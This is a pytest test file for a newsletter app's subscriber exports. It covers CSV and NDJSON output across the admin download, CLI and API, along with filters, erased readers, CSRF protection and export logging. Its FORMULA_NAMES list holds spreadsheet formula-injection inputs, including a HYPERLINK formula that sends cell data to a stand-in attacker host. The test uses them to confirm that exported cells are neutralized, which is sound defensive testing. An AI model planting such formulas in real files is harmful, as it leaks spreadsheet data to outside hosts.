"""Exports: 100,000 generated subscriptions through the admin download, the CLI and the API, checked against
the database; filters, formula neutralization, erased readers, the record of each export, refusals."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import pty
import subprocess
import sys
from collections import Counter
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
import sqlalchemy as sa

from newsletter import accounts, api_tokens, exports
from newsletter.extensions import db
from newsletter.models import ConsentEvent, ExportRecord, Newsletter, Reader, Subscription, utcnow

from .conftest import hidden_fields, query

PASSWORD = "correct horse battery staple"
READERS = 80_000  # each in daily-briefing, every 4th in weekly-explainer too: 100,000 subscriptions
BASE = datetime(2025, 1, 1, tzinfo=timezone.utc)  # reader i signed up BASE + i minutes
SOURCES = ("hosted-form", "embed-iframe", "api", "embed-script")  # reader i's first signup: SOURCES[i % 4]
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\t=x", "\r=x"]


# --- Data ----------------------------------------------------------------------------------------


def _moment_sql(dialect: str, minutes: str) -> str:
    """SQL for BASE + `minutes` minutes, stored as the app stores an aware UTC datetime."""
    if dialect == "postgresql":
        return f"(timestamptz '2025-01-01 00:00:00+00' + ({minutes}) * interval '1 minute')"
    return f"(strftime('%Y-%m-%d %H:%M:%S', '2025-01-01 00:00:00', '+' || ({minutes}) || ' minutes') || '.000000')"


def generate(app, readers: int = READERS) -> None:
    """Readers and subscriptions made by set-based SQL (generate_series / a recursive CTE), not ORM objects.

    Reader i: status by i % 3 (pending, confirmed, unsubscribed), confirmed i % 48 hours after signing up,
    first signup source SOURCES[i % 4] (none when i % 10 == 0: 'unknown'; a later second signup request
    when i % 7 == 0), erased when i % 1000 == 0.
    """
    with app.app_context():
        dialect = db.engine.dialect.name
        ids = dict(db.session.execute(sa.text("SELECT slug, id FROM newsletters")).all())
        at = lambda minutes: _moment_sql(dialect, minutes)  # noqa: E731
        if dialect == "postgresql":
            numbers, prefix = "generate_series(1, :n) AS seq(i)", ""
        else:
            numbers = "seq"
            prefix = "WITH RECURSIVE seq(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM seq WHERE i < :n) "
        statements = [
            prefix + "INSERT INTO readers (email, name, created_at, erased_at) SELECT "
            "CASE WHEN i % 1000 = 0 THEN 'erased-' || i || '@invalid.example' ELSE 'reader' || i || '@example.org' END, "
            f"CASE WHEN i % 1000 = 0 THEN NULL ELSE 'Reader ' || i END, {at('i')}, "
            f"CASE WHEN i % 1000 = 0 THEN {at('i + 1')} END FROM {numbers}",
            "INSERT INTO subscriptions (reader_id, newsletter_id, status, created_at, pending_since, confirmed_at, "
            "unsubscribed_at) SELECT r.id, n.id, "
            "CASE r.id % 3 WHEN 0 THEN 'pending' WHEN 1 THEN 'confirmed' ELSE 'unsubscribed' END, "
            f"{at('r.id')}, {at('r.id')}, CASE WHEN r.id % 3 > 0 THEN {at('r.id + 60 * (r.id % 48)')} END, "
            f"CASE WHEN r.id % 3 = 2 THEN {at('r.id + 60 * 50')} END "
            "FROM readers r JOIN newsletters n ON n.slug = 'daily-briefing' OR (n.slug = 'weekly-explainer' AND r.id % 4 = 0) "
            "ORDER BY r.id, n.id",
            # An older event of another kind: the source must come from the signup request, not this.
            "INSERT INTO consent_events (reader_id, newsletter_id, action, occurred_at, source) "
            "SELECT reader_id, newsletter_id, 'confirmed', created_at, 'email-link' FROM subscriptions ORDER BY id",
            "INSERT INTO consent_events (reader_id, newsletter_id, action, occurred_at, source) "
            "SELECT reader_id, newsletter_id, 'signup_requested', created_at, CASE reader_id % 4 "
            + " ".join(f"WHEN {k} THEN '{source}'" for k, source in enumerate(SOURCES)) + " END "
            "FROM subscriptions WHERE reader_id % 10 <> 0 ORDER BY id",
            "INSERT INTO consent_events (reader_id, newsletter_id, action, occurred_at, source) "
            "SELECT reader_id, newsletter_id, 'signup_requested', created_at, 'preferences' "
            "FROM subscriptions WHERE reader_id % 7 = 0 AND reader_id % 10 <> 0 ORDER BY id",
        ]
        for statement in statements:
            db.session.execute(sa.text(statement), {"n": readers})
        db.session.commit()
        if dialect == "postgresql":
            db.session.execute(sa.text("ANALYZE"))
            db.session.commit()
        db.session.remove()
        assert ids


def expected_rows(app, slug: str | None = None, keep=lambda row: True) -> list[tuple]:
    """What an export should hold, read from the database without the export's own query: the CSV cells
    (newsletter first when `slug` is None), in subscription order, for the rows `keep(row)` accepts."""
    stamp = lambda moment: moment.strftime("%Y-%m-%dT%H:%M:%SZ") if moment else ""  # noqa: E731
    first = (sa.select(ConsentEvent.reader_id, ConsentEvent.newsletter_id, sa.func.min(ConsentEvent.id).label("id"))
             .where(ConsentEvent.action == "signup_requested")
             .group_by(ConsentEvent.reader_id, ConsentEvent.newsletter_id).subquery())
    event = sa.orm.aliased(ConsentEvent)
    statement = (
        sa.select(Newsletter.slug, Reader.email, Reader.name, Subscription.status, Subscription.created_at,
                  Subscription.confirmed_at, event.source, Reader.erased_at)
        .join(Reader, Reader.id == Subscription.reader_id).join(Newsletter, Newsletter.id == Subscription.newsletter_id)
        .outerjoin(first, (first.c.reader_id == Subscription.reader_id) & (first.c.newsletter_id == Subscription.newsletter_id))
        .outerjoin(event, event.id == first.c.id)
        .order_by(Subscription.id)
    )
    with app.app_context():
        rows = db.session.execute(statement).all()
        db.session.remove()
    kept = []
    for row in rows:
        if row.erased_at is not None or (slug is not None and row.slug != slug) or not keep(row):
            continue
        cells = (row.email, row.name or "", row.status, stamp(row.created_at), stamp(row.confirmed_at),
                 row.source or "unknown")
        kept.append(cells if slug is not None else (row.slug, *cells))
    return kept


def csv_rows(body: bytes) -> tuple[list[str], list[tuple]]:
    """(header, rows) of a CSV body, checking it is UTF-8 with CRLF line ends."""
    text = body.decode("utf-8")
    assert text.endswith("\r\n")
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    return header, [tuple(row) for row in rows]


def checksum(rows: list[tuple], email_column: int) -> str:
    return hashlib.sha256("\n".join(row[email_column] for row in rows).encode()).hexdigest()


def assert_same(exported: list[tuple], expected: list[tuple], email_column: int) -> None:
    assert len(exported) == len(expected)
    assert checksum(exported, email_column) == checksum(expected, email_column)
    assert exported == expected


def records(app) -> list[ExportRecord]:
    with app.app_context():
        found = db.session.scalars(sa.select(ExportRecord).order_by(ExportRecord.id)).all()
        db.session.expunge_all()
        db.session.remove()
    return list(found)


@pytest.fixture
def big_list(app):
    generate(app)
    [(count,)] = query(app, "SELECT count(*) FROM subscriptions")
    assert count == 100_000


@pytest.fixture
def accounts_(app):
    """An admin, a viewer and a viewer's API token; their ids and the token's secret."""
    with app.app_context():
        admin = accounts.create_admin(db.session, "editor@example.org", PASSWORD, "admin")
        viewer = accounts.create_admin(db.session, "viewer@example.org", PASSWORD, "viewer")
        token, secret = api_tokens.create_token(db.session, "sending platform", role="viewer")
        ids = {"admin": admin.id, "viewer": viewer.id, "token": token.id, "secret": secret}
        db.session.commit()
        db.session.remove()
    return ids


def log_in(client, email: str) -> None:
    page = client.get("/admin/login")
    response = client.post("/admin/login", data={**hidden_fields(page.get_data(as_text=True)),
                                                  "email": email, "password": PASSWORD})
    assert response.status_code == 303


def bearer(secret: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}"}


def download(client, fields: dict[str, str], *, buffered: bool = True):
    """What the admin's browser sends on pressing Download: the exports page's form, with its CSRF token."""
    page = client.get("/admin/exports")
    assert page.status_code == 200
    return client.post("/admin/exports/download", data={**hidden_fields(page.get_data(as_text=True)), **fields},
                       buffered=buffered)


# --- 100,000 rows through each channel -----------------------------------------------------------


def test_admin_download_of_all_newsletters_matches_the_database(app, client, big_list, accounts_):
    log_in(client, "viewer@example.org")  # a viewer may export: it is reading
    response = download(client, {"newsletter": "", "format": "csv"})
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="all-newsletters-subscribers-') and disposition.endswith('.csv"')
    assert response.headers["Cache-Control"] == "no-store"

    header, rows = csv_rows(response.get_data())
    assert header == ["newsletter", *exports.COLUMNS]
    expected = expected_rows(app)
    assert len(expected) == 100_000 - 160  # 80 erased readers, each in both newsletters
    assert_same(rows, expected, email_column=1)
    assert not any(row[1].startswith("erased-") for row in rows)
    # Sources: the first signup request's channel, never a later one or another kind of event.
    sources = Counter(row[6] for row in rows)
    assert set(sources) == {*SOURCES, "unknown"} and "preferences" not in sources and "email-link" not in sources
    assert rows[0] == ("daily-briefing", "reader1@example.org", "Reader 1", "confirmed", "2025-01-01T00:01:00Z",
                       "2025-01-01T01:01:00Z", "embed-iframe")

    [record] = records(app)
    assert (record.channel, record.admin_id, record.token_id, record.newsletter_id) == (
        "admin", accounts_["viewer"], None, None)
    assert (record.format, record.filters, record.row_count) == ("csv", {"newsletter": "all"}, len(rows))
    assert record.finished_at is not None and record.finished_at >= record.created_at


def test_cli_export_with_filters_to_a_file_and_to_stdout(app, runner, big_list, tmp_path):
    target = tmp_path / "confirmed.csv"
    result = runner.invoke(args=["export", "daily-briefing", "--status", "confirmed", "--since", "2025-01-10",
                                 "--until", "2025-01-20", "-o", str(target)])
    assert result.exit_code == 0, result.output
    header, rows = csv_rows(target.read_bytes())
    assert header == list(exports.COLUMNS)
    since, before = datetime(2025, 1, 10, tzinfo=timezone.utc), datetime(2025, 1, 21, tzinfo=timezone.utc)
    expected = expected_rows(app, "daily-briefing", lambda row: row.status == "confirmed"
                             and since <= row.created_at < before)
    assert 4000 < len(expected) < 6000
    assert_same(rows, expected, email_column=0)
    assert f"Exported {len(rows)} rows to {target}" in result.stderr
    assert not Path(f"{target}.partial").exists()

    # NDJSON on stdout, of every newsletter, by confirmation time: raw values, one object per line.
    result = runner.invoke(args=["export", "all", "--status", "confirmed,unsubscribed", "--confirmed-since",
                                 "2025-02-01T12:00:00Z", "--confirmed-until", "2025-02-03", "--format", "ndjson"])
    assert result.exit_code == 0, result.output
    lines = result.stdout_bytes.decode("utf-8").splitlines()
    objects = [json.loads(line) for line in lines]
    since, before = datetime(2025, 2, 1, 12, tzinfo=timezone.utc), datetime(2025, 2, 4, tzinfo=timezone.utc)
    expected = expected_rows(app, None, lambda row: row.status in ("confirmed", "unsubscribed")
                             and row.confirmed_at is not None and since <= row.confirmed_at < before)
    assert expected
    columns = ("newsletter", *exports.COLUMNS)
    exported = [tuple(item[column] or "" for column in columns) for item in objects]
    assert_same(exported, expected, email_column=1)
    assert list(objects[0]) == list(columns)

    first, second = records(app)
    assert (first.channel, first.admin_id, first.token_id, first.format) == ("cli", None, None, "csv")
    assert first.filters == {"newsletter": "daily-briefing", "status": "confirmed",
                             "signed_up_since": "2025-01-10", "signed_up_until": "2025-01-20"}
    assert second.filters == {"newsletter": "all", "status": "confirmed,unsubscribed",
                              "confirmed_since": "2025-02-01T12:00:00Z", "confirmed_until": "2025-02-03"}
    assert (first.row_count, second.row_count) == (len(rows), len(objects))
    assert first.finished_at and second.finished_at


def test_api_export_with_filters(app, client, big_list, accounts_):
    url = "/api/v1/newsletters/weekly-explainer/subscribers"
    response = client.get(f"{url}.csv?status=pending&status=unsubscribed&signed_up_until=2025-02-01",
                          headers=bearer(accounts_["secret"]))
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.headers["Content-Disposition"].startswith('attachment; filename="weekly-explainer-subscribers-')
    header, rows = csv_rows(response.get_data())
    before = datetime(2025, 2, 2, tzinfo=timezone.utc)
    expected = expected_rows(app, "weekly-explainer", lambda row: row.status != "confirmed" and row.created_at < before)
    assert len(expected) > 5000
    assert_same(rows, expected, email_column=0)

    response = client.get(f"{url}.ndjson", headers=bearer(accounts_["secret"]))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/x-ndjson; charset=utf-8"
    objects = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    assert len(objects) == 20_000 - 80
    assert all(item["name"] is None or item["name"].startswith("Reader ") for item in objects)

    first, second = records(app)
    assert (first.channel, first.token_id, first.admin_id, first.row_count) == ("api", accounts_["token"], None,
                                                                                len(rows))
    assert first.filters == {"newsletter": "weekly-explainer", "status": "pending,unsubscribed",
                             "signed_up_until": "2025-02-01"}
    assert (second.format, second.row_count) == ("ndjson", len(objects))
    assert first.finished_at and second.finished_at


# --- Cells ---------------------------------------------------------------------------------------


def add_reader(app, email: str, name: str | None, slug: str = "daily-briefing", erased: bool = False) -> None:
    with app.app_context():
        newsletter_id = db.session.scalar(sa.text("SELECT id FROM newsletters WHERE slug = :slug"), {"slug": slug})
        reader = Reader(email=email, name=name, erased_at=utcnow() if erased else None)
        db.session.add(reader)
        db.session.flush()
        db.session.add(Subscription(reader_id=reader.id, newsletter_id=newsletter_id, status="confirmed",
                                    created_at=utcnow() - timedelta(days=1), confirmed_at=utcnow()))
        db.session.commit()
        db.session.remove()


def test_formula_cells_are_neutralized_in_csv_and_kept_as_is_in_ndjson(app, runner):
    for number, name in enumerate(FORMULA_NAMES):
        add_reader(app, f"formula{number}@example.org", name)
    add_reader(app, "=1+2@example.org", "Safe Name")
    add_reader(app, "-dash@example.org", 'Smith, "Jo"\nline two')
    add_reader(app, "plain@example.org", "Олена Коваленко")
    add_reader(app, "inner@example.org", "a=b+c-d@e")  # only the first character counts

    result = runner.invoke(args=["export", "daily-briefing"])
    assert result.exit_code == 0, result.output
    header, rows = csv_rows(result.stdout_bytes)
    names = {row[0]: row[1] for row in rows}
    for number, name in enumerate(FORMULA_NAMES):
        assert names[f"formula{number}@example.org"] == "'" + name
    assert names["'=1+2@example.org"] == "Safe Name"  # the email cell too
    assert names["'-dash@example.org"] == 'Smith, "Jo"\nline two'  # quoted, not neutralized
    assert names["plain@example.org"] == "Олена Коваленко"
    assert names["inner@example.org"] == "a=b+c-d@e"
    assert '"Smith, ""Jo""\nline two"' in result.stdout_bytes.decode()  # RFC 4180 quoting
    assert all(not cell.startswith(tuple(exports.FORMULA_STARTS)) for row in rows for cell in row if cell)

    result = runner.invoke(args=["export", "daily-briefing", "--format", "ndjson"])
    objects = {item["email"]: item["name"] for item in map(json.loads, result.stdout_bytes.decode().splitlines())}
    assert objects["formula0@example.org"] == FORMULA_NAMES[0] and objects["=1+2@example.org"] == "Safe Name"


def test_erased_readers_are_never_exported(app, runner, client, accounts_):
    add_reader(app, "kept@example.org", "Kept")
    add_reader(app, "gone@example.org", "Gone", erased=True)
    outputs = [
        runner.invoke(args=["export", "all"]).stdout_bytes,
        client.get("/api/v1/newsletters/daily-briefing/subscribers.ndjson", headers=bearer(accounts_["secret"])).data,
    ]
    log_in(client, "editor@example.org")
    outputs.append(download(client, {"newsletter": "daily-briefing"}).data)
    for output in outputs:
        assert b"kept@example.org" in output and b"gone@example.org" not in output and b"Gone" not in output
    assert [record.row_count for record in records(app)] == [1, 1, 1]


# --- Recording, refusing, streaming --------------------------------------------------------------


def test_exports_page_lists_every_export_with_who_and_what(app, client, runner, accounts_):
    add_reader(app, "one@example.org", "One")
    runner.invoke(args=["export", "daily-briefing", "--status", "confirmed"])
    client.get("/api/v1/newsletters/daily-briefing/subscribers.csv", headers=bearer(accounts_["secret"]))
    log_in(client, "viewer@example.org")
    page = client.get("/admin/exports")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert 'action="/admin/exports/download"' in html and 'method="post"' in html
    assert "the command line" in html and "API token &#39;sending platform&#39;" in html
    assert "status: confirmed" in html
    assert 'href="/admin/exports"' in html  # in the admin's navigation


def test_a_download_cut_off_stays_unfinished_and_the_first_bytes_leave_at_once(app, client, accounts_):
    add_reader(app, "one@example.org", "One")
    log_in(client, "editor@example.org")
    response = download(client, {"newsletter": "daily-briefing"}, buffered=False)
    chunks = iter(response.response)
    assert next(chunks) == b"email,name,status,subscribed_at,confirmed_at,source\r\n"
    response.close()  # the browser went away after the header row
    [record] = records(app)
    assert record.finished_at is None and record.row_count is None
    assert "not finished" in client.get("/admin/exports").get_data(as_text=True)


def test_a_download_needs_the_forms_post_with_its_csrf_token(app, client, accounts_):
    """Another site's link or form can't start an export in the admin's name; the API stays a GET."""
    add_reader(app, "one@example.org", "One")
    log_in(client, "viewer@example.org")

    # A link to the download (a bookmark, an <img>, a navigation from elsewhere): the form, filled in, no file.
    link = client.get("/admin/exports/download?newsletter=daily-briefing&format=ndjson")
    assert link.status_code == 303 and b"one@example.org" not in link.data
    form = client.get(link.headers["Location"]).get_data(as_text=True)
    assert 'value="daily-briefing" selected' in form and 'value="ndjson" checked' in form
    assert client.head("/admin/exports/download?newsletter=daily-briefing").status_code == 303
    assert records(app) == []

    # Another site's form: a POST without our token, or with a made-up one, is refused with a page saying why.
    for forged in ({}, {"csrf_token": "forged"}):
        refused = client.post("/admin/exports/download", data={"newsletter": "daily-briefing", **forged})
        assert refused.status_code == 400 and refused.mimetype == "text/html"
        assert "came from another site" in refused.get_data(as_text=True)
        assert b"one@example.org" not in refused.data
    assert records(app) == []

    # The page's own form downloads, recorded as the viewer's export.
    response = download(client, {"newsletter": "daily-briefing"})
    assert response.status_code == 200 and b"one@example.org" in response.data
    [record] = records(app)
    assert (record.channel, record.admin_id) == ("admin", accounts_["viewer"])

    # The API's export, with its bearer token, is a GET as before.
    api = client.get("/api/v1/newsletters/daily-briefing/subscribers.csv", headers=bearer(accounts_["secret"]))
    assert api.status_code == 200 and b"one@example.org" in api.data
    assert len(records(app)) == 2


BAD_FILTERS = [
    ("status", "active", "Unknown status 'active'"),
    ("signed_up_since", "yesterday", "Signed up since must be a date"),
    ("signed_up_until", "2025-02-30", "Signed up until must be a date"),
    ("confirmed_since", "2025-13-01T00:00:00Z", "Confirmed since must be a date"),
    ("signed_up_until", "9999-12-31", "Signed up until is out of range"),
]


@pytest.mark.parametrize("field, value, why", BAD_FILTERS)
def test_bad_filters_get_a_specific_error_on_every_channel(app, client, runner, accounts_, field, value, why):
    response = client.get(f"/api/v1/newsletters/daily-briefing/subscribers.csv?{field}={value}",
                          headers=bearer(accounts_["secret"]))
    assert response.status_code == 422
    assert why in response.get_json()["errors"][field][0]

    option = {"status": "--status", "signed_up_since": "--since", "signed_up_until": "--until",
              "confirmed_since": "--confirmed-since"}[field]
    result = runner.invoke(args=["export", "daily-briefing", option, value])
    assert result.exit_code == 2 and why in result.output

    log_in(client, "viewer@example.org")
    page = download(client, {"newsletter": "daily-briefing", field: value})
    assert page.status_code == 422 and why in page.get_data(as_text=True).replace("&#39;", "'")
    assert records(app) == []


def test_until_before_since_and_unknown_newsletters_are_refused(app, client, runner, accounts_):
    response = client.get("/api/v1/newsletters/daily-briefing/subscribers.csv?signed_up_since=2025-02-01"
                          "&signed_up_until=2025-01-01", headers=bearer(accounts_["secret"]))
    assert response.status_code == 422
    assert response.get_json() == {"errors": {"signed_up_until": ["Signed up until must be after signed up since."]}}
    response = client.get("/api/v1/newsletters/nope/subscribers.csv", headers=bearer(accounts_["secret"]))
    assert response.status_code == 404 and "no newsletter called 'nope'" in response.get_json()["errors"]["request"][0]
    result = runner.invoke(args=["export", "nope"])
    assert result.exit_code == 2 and "no newsletter called 'nope'" in result.output
    log_in(client, "viewer@example.org")
    page = download(client, {"newsletter": "nope", "format": "xlsx"})
    assert page.status_code == 422
    assert records(app) == []


def test_anonymous_and_revoked_tokens_get_nothing(app, client, accounts_):
    add_reader(app, "one@example.org", "One")
    for path in ("/admin/exports", "/admin/exports/download?newsletter=daily-briefing"):
        response = client.get(path)
        assert response.status_code == 302 and "/admin/login" in response.headers["Location"]
    url = "/api/v1/newsletters/daily-briefing/subscribers.csv"
    assert client.get(url).status_code == 401
    assert client.get(url, headers=bearer("nlt_not-a-token")).status_code == 401
    with app.app_context():
        api_tokens.revoke(db.session, accounts_["token"])
        db.session.commit()
        db.session.remove()
    response = client.get(url, headers=bearer(accounts_["secret"]))
    assert response.status_code == 401 and b"one@example.org" not in response.data
    assert records(app) == []


def test_cli_shows_a_progress_bar_only_on_a_terminal(app, tmp_path, database_url):
    if not database_url.startswith("sqlite"):
        pytest.skip("the progress bar is the same on every backend")
    add_reader(app, "one@example.org", "One")
    env = {**os.environ, "NEWSLETTER_DATABASE_URL": database_url, "NEWSLETTER_SECRET_KEY": "x" * 32}
    command = [str(Path(sys.executable).with_name("newsletter")), "export", "daily-briefing", "-o",
               str(tmp_path / "out.csv")]
    primary, secondary = pty.openpty()
    try:
        finished = subprocess.run(command, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                  stderr=secondary, timeout=60)
        os.close(secondary)
        terminal = b""
        while True:
            try:
                data = os.read(primary, 4096)
            except OSError:  # EIO: the other end is closed
                break
            if not data:
                break
            terminal += data
    finally:
        os.close(primary)
    assert finished.returncode == 0
    assert b"Exporting" in terminal and b"1/1" in terminal
    piped = subprocess.run(command, env=env, capture_output=True, timeout=60)
    assert piped.returncode == 0 and b"Exporting" not in piped.stderr and b"Exported 1 rows" in piped.stderr
    assert (tmp_path / "out.csv").read_bytes().count(b"\r\n") == 2


TRICKY_ROWS = [
    ("plain@example.org", "Jo", "confirmed"),
    ("a@example.org", "Smith, Jo", "pending"),
    ("b@example.org", 'Say "hi"', "pending"),
    ("c@example.org", "two\nlines", "pending"),
    ("d@example.org", "carriage\rreturn", "pending"),
    ("e@example.org", "", "unsubscribed"),
    ("f@example.org", " spaced ", "pending"),
    ("g@example.org", "Олена, \"Ко\"", "pending"),
]


@pytest.mark.parametrize("rows", [TRICKY_ROWS[:1] * 3, TRICKY_ROWS, TRICKY_ROWS[::-1] + TRICKY_ROWS[:1]])
def test_csv_lines_are_byte_for_byte_what_csv_writer_writes(rows):
    reference = io.StringIO()
    csv.writer(reference).writerows(rows)
    encode = exports._csv_chunk(("email", "name", "status"))
    assert encode(rows) == reference.getvalue().encode("utf-8")
